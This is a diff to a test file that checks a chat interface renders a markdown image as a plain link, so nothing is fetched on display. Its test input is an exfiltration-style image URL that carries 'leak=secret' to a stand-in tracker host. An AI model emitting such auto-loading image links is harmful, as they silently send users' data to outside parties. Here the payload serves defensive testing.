@@ -63,7 +63,9 @@ class TestRenderedInert:
     def test_a_markdown_image_becomes_a_link_so_nothing_is_fetched_on_display(self):
         at, stored = round_trip("look ![x](https://tracker.example/pixel.png?leak=secret)")
         assert stored.input_body.startswith("look ![x]")  # stored as typed
-        assert at.chat_message[0].markdown[0].value == "look [image: x](https://tracker.example/pixel.png?leak=secret)"
+        shown = at.chat_message[0].markdown[0].value
+        assert "![" not in shown  # no image syntax reaches the renderer: nothing is fetched
+        assert "[x](https://tracker.example/pixel.png?leak=secret)" in shown  # the link stays, for a click
 
 
 class TestUrlTampering:
